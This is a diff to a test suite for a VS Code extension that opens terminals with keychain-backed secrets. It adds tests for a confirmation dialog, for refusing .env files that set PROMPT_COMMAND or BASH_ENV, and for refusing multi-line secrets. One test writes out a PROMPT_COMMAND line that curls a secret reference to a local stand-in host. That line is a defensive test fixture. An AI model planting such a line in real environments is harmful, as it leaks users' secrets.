@@ -141,7 +141,14 @@ describe('vault: keychain-backed references', function () {
 
   it('Open Terminal with Keychain Secrets: the terminal has the resolved value and the CLI on PATH', async () => {
     const outDir = fs.mkdtempSync(path.join(channel.workspacePath(), 'out-'));
-    const terminal = await vscode.commands.executeCommand<vscode.Terminal | undefined>('tokenCustody.openTerminalWithSecrets');
+    const opening = vscode.commands.executeCommand<vscode.Terminal | undefined>('tokenCustody.openTerminalWithSecrets');
+    // Issue 11 #1: a modal lists variable → secret before anything is resolved.
+    const dialog = await channel.waitFor(() => channel.dialog(), 'the secrets-terminal confirmation', 20_000);
+    assert.match(dialog.message, /Open a terminal with 1 secret from \.env/);
+    assert.ok(dialog.detail.includes(`${NAME} ← ${REFERENCE}`), dialog.detail);
+    assert.ok(!dialog.message.includes(token) && !dialog.detail.includes(token));
+    await channel.clickButton('Open Terminal');
+    const terminal = await opening;
     assert.ok(terminal, 'a terminal was opened');
     try {
       await channel.waitFor(() => terminal.shellIntegration, 'shell integration in the secrets terminal', 30_000);
@@ -164,6 +171,27 @@ describe('vault: keychain-backed references', function () {
     }
   });
 
+  it('issue 11 #1: a .env that sets PROMPT_COMMAND with a reference is refused by name, no terminal, no dialog', async () => {
+    const edit = new vscode.WorkspaceEdit();
+    edit.insert(doc.uri, new vscode.Position(doc.lineCount - 1, 0), `PROMPT_COMMAND=curl -s http://127.0.0.1:9/c?t=${REFERENCE}\nBASH_ENV=${REFERENCE}\n`);
+    assert.ok(await vscode.workspace.applyEdit(edit));
+    try {
+      const terminalsBefore = vscode.window.terminals.length;
+      const terminal = await vscode.commands.executeCommand<vscode.Terminal | undefined>('tokenCustody.openTerminalWithSecrets');
+      assert.equal(terminal, undefined);
+      assert.equal(vscode.window.terminals.length, terminalsBefore);
+      assert.equal(await channel.dialog(), null, 'no confirmation was shown');
+      const toast = await channel.waitFor(async () => (await channel.notifications()).find((n) => n.includes('PROMPT_COMMAND')), 'the refusal message');
+      assert.match(toast, /PROMPT_COMMAND \(line \d+\), BASH_ENV \(line \d+\)/);
+      assert.match(toast, /No terminal was opened/);
+    } finally {
+      await vscode.window.showTextDocument(doc);
+      await vscode.commands.executeCommand('undo');
+      await channel.waitFor(() => !doc.getText().includes('PROMPT_COMMAND'), 'undo of the added lines');
+      await vscode.commands.executeCommand('notifications.clearAll');
+    }
+  });
+
   it('an unresolvable reference: a message naming it, no terminal', async () => {
     const missing = `NOPE_${randomBytes(3).toString('hex')}`;
     const edit = new vscode.WorkspaceEdit();
@@ -171,7 +199,10 @@ describe('vault: keychain-backed references', function () {
     assert.ok(await vscode.workspace.applyEdit(edit));
     try {
       const terminalsBefore = vscode.window.terminals.length;
-      const terminal = await vscode.commands.executeCommand<vscode.Terminal | undefined>('tokenCustody.openTerminalWithSecrets');
+      const opening = vscode.commands.executeCommand<vscode.Terminal | undefined>('tokenCustody.openTerminalWithSecrets');
+      await channel.waitFor(() => channel.dialog(), 'the secrets-terminal confirmation', 20_000);
+      await channel.clickButton('Open Terminal');
+      const terminal = await opening;
       assert.equal(terminal, undefined);
       assert.equal(vscode.window.terminals.length, terminalsBefore);
       const toast = await channel.waitFor(async () => (await channel.notifications()).find((n) => n.includes(missing)), 'the unresolved-reference message');
@@ -181,6 +212,27 @@ describe('vault: keychain-backed references', function () {
       await vscode.window.showTextDocument(doc);
       await vscode.commands.executeCommand('undo');
       await channel.waitFor(() => !doc.getText().includes(missing), 'undo of the added line');
+      await vscode.commands.executeCommand('notifications.clearAll');
+    }
+  });
+
+  it('issue 11 #15: Insert into terminal refuses a multi-line secret', async () => {
+    const name = `PEM_${randomBytes(3).toString('hex')}`;
+    await api.core.context.secrets.store(`token-custody/${name}`, 'first-line-of-secret\nsecond-line-of-secret');
+    const terminal = vscode.window.createTerminal({ name: 'Token Custody test: insert' });
+    terminal.show();
+    try {
+      await channel.waitFor(() => vscode.window.activeTerminal === terminal, 'the test terminal to be active');
+      const inserting = vscode.commands.executeCommand('tokenCustody.vault.insertIntoTerminal', { uri: doc.uri.toString(), scheme: 'vscode-secret', name, start: 0, text: `vscode-secret://token-custody/${name}` });
+      await channel.waitFor(() => channel.dialog(), 'the insert confirmation', 20_000);
+      await channel.clickButton('Insert');
+      await inserting;
+      const toast = await channel.waitFor(async () => (await channel.notifications()).find((n) => n.includes('was not inserted')), 'the multi-line refusal');
+      assert.match(toast, /several lines/);
+      assert.ok(!toast.includes('second-line-of-secret'));
+    } finally {
+      terminal.dispose();
+      await api.core.context.secrets.delete(`token-custody/${name}`);
       await vscode.commands.executeCommand('notifications.clearAll');
     }
   });
